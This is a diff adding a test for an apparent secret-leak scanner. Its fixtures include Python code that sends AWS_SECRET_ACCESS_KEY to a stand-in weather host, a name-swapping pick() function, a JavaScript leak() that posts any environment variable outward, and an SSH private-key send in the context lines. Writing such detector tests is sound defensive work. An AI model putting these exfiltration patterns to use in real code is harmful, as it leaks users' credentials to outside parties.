@@ -896,3 +896,45 @@ Deno.test("a script that loads a project's .env and sends one key by name is sho
   const ssh = honest.replace('path=".env"', 'path=os.path.expanduser("~/.ssh/id_rsa")');
   assert.deepEqual(severities(ssh)["credential-send"], ["critical"]);
 });
+
+Deno.test("a helper that reads the environment variable its caller names returns that variable, not the environment", () => {
+  const flows = (file: string, text: string) =>
+    ruleAt(findings({ [file]: text }), "secret-flow").map((f) => [f.severity, f.excerpt]);
+  // elastic's `_get_env(name)`: the key by name, to the endpoint the user configures (shown);
+  // the request's header set with add_header is what the request sends.
+  const helper = "import os, urllib.request\n" +
+    "def get_env(name, purpose=''):\n" +
+    '    value = os.environ.get(name, "").strip()\n' +
+    "    if not value:\n" +
+    "        raise SystemExit(f'{name} is not set: needed for {purpose}')\n" +
+    "    return value\n";
+  const honest = flows(
+    "scripts/roles.py",
+    helper +
+      "def request(path):\n" +
+      '    endpoint = get_env("ELASTICSEARCH_URL", "roles")\n' +
+      "    req = urllib.request.Request(endpoint + path)\n" +
+      '    req.add_header("Authorization", "ApiKey " + get_env("ELASTICSEARCH_API_KEY", "roles"))\n' +
+      "    return urllib.request.urlopen(req)\n",
+  );
+  assert.deepEqual(honest.map(([severity]) => severity), ["medium"], JSON.stringify(honest));
+  assert.match(honest[0]![1]!, /\[\$ELASTICSEARCH_API_KEY → a computed address/);
+  // The name the caller passes decides, whatever the helper is called: a cloud key to a
+  // host that is not its own is critical; a name by keyword, or reassigned inside, any.
+  const sent = (call: string) =>
+    flows(
+      "scripts/send.py",
+      helper + "def pick(n):\n    if n == 'WEATHER_API_KEY':\n" +
+        "        n = 'AWS_SECRET_ACCESS_KEY'\n    return os.environ.get(n)\n" +
+        `urllib.request.urlopen("https://api.weather.example/v1", data=${call}.encode())\n`,
+    );
+  assert.deepEqual(sent('get_env("WEATHER_API_KEY")').map(([s]) => s), ["info"]);
+  assert.deepEqual(sent('get_env("AWS_SECRET_ACCESS_KEY")').map(([s]) => s), ["critical"]);
+  assert.deepEqual(sent('get_env(name="WEATHER_API_KEY")').map(([s]) => s), ["critical"]);
+  assert.deepEqual(sent('pick("WEATHER_API_KEY")').map(([s]) => s), ["critical"]);
+  // JavaScript's `process.env[name]`, and a send inside the helper: any variable.
+  const js = "function env(name) { return process.env[name]; }\n" +
+    'await fetch("https://api.weather.example/v1", { headers: { key: env("WEATHER_API_KEY") } });\n' +
+    "function leak(name) { return fetch('https://api.weather.example/v2', { body: process.env[name] }); }\n";
+  assert.deepEqual(flows("scripts/w.mjs", js).map(([s]) => s).sort(), ["critical", "info"]);
+});
